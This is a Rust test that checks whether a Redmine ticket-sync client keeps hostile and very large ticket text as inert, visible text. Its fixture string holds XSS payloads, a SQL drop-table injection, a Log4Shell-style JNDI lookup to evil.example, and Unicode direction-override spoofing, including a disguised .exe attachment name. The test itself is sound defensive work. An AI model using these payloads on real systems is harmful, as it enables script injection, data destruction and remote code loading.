//! Tickets whose text would like to be more than text.
use serde_json::json;

use super::desk::{desk, kept_change, key};
use super::equal::equals_the_server;
use super::server::Redmine;

const HOSTILE: &str = "h1. Look\n\n<script>alert(1)</script> <img src=x onerror=alert(2)> \
    <iframe src=\"https://evil.example\"></iframe>\n\n\"click\":javascript:alert(3)\n\nadmin\u{202e}nimda and zero\u{200b}width\n\n\
    {{include(secret)}} !https://evil.example/pixel.png! '; drop table changes; -- %s %n ${jndi:ldap://evil.example}";

#[tokio::test(flavor = "multi_thread")]
async fn hostile_text_and_five_megabytes_do_not_stop_the_sync_and_arrive_as_text() {
    let server = Redmine::given();
    let project = server.project();
    let hostile = server.ticket(&project, "<b>Bold</b> \u{202e}txet", "Authorize");
    let huge = server.ticket(&project, "A very long story", "Authorize");
    let plain = server.ticket(&project, "An ordinary change", "Authorize");
    let field = server.fields()["Plan: Backout plan"];
    server.edit(
        "alice",
        hostile,
        &json!({
            "description": HOSTILE, "notes": HOSTILE, "custom_fields": [{"id": field, "value": HOSTILE}],
        }),
    );
    server.attach(hostile, "<img src=x>\u{202e}fdp.exe", b"MZ");
    let line = "A very long description that somebody pasted from a log file.\n";
    let text = line.repeat(5 * 1024 * 1024 / line.len());
    server.edit("alice", huge, &json!({"description": text}));
    let url = server.url.clone();
    let journey = desk(server.clone(), &url, &project).await;
    assert_eq!(equals_the_server(&server, &journey.data_dir(), &project, true).await, 3, "all three, to the letter");

    // The sync goes on afterwards as well: every one of them is edited once more.
    for id in [hostile, huge, plain] {
        server.edit("alice", id, &json!({"notes": "and on it goes"}));
    }
    let report = journey.cabinet.sync_now().await.expect("the sync goes on");
    assert_eq!(report.changed, 3, "{report:?}");
    equals_the_server(&server, &journey.data_dir(), &project, true).await;

    let view = journey.change(&key(hostile)).await;
    let shown = serde_json::to_string(&view.description).expect("json");
    assert!(shown.contains("<script>alert(1)</script>"), "the words are shown as words: {shown}");
    assert!(shown.contains("U+202E") && shown.contains("U+200B"), "controls are visible marks: {shown}");
    assert!(!shown.contains("\"target\":\"javascript"), "no link leads to a script: {shown}");
    let everything = serde_json::to_string(&view).expect("json");
    for control in ['\u{202e}', '\u{200b}'] {
        assert!(!everything.contains(control), "no invisible control reaches the window");
    }
    let view = serde_json::to_string(&journey.change(&key(huge)).await).expect("json");
    assert!(view.len() < 2 * 1024 * 1024, "what crosses to the window is bounded: {} bytes", view.len());
    assert!(view.contains("very long description"), "and readable");
    let kept = kept_change(&journey.data_dir(), huge).await.description.text;
    assert!(kept.len() >= 5 * 1024 * 1024 - line.len(), "all of it is kept: {} bytes", kept.len());
}
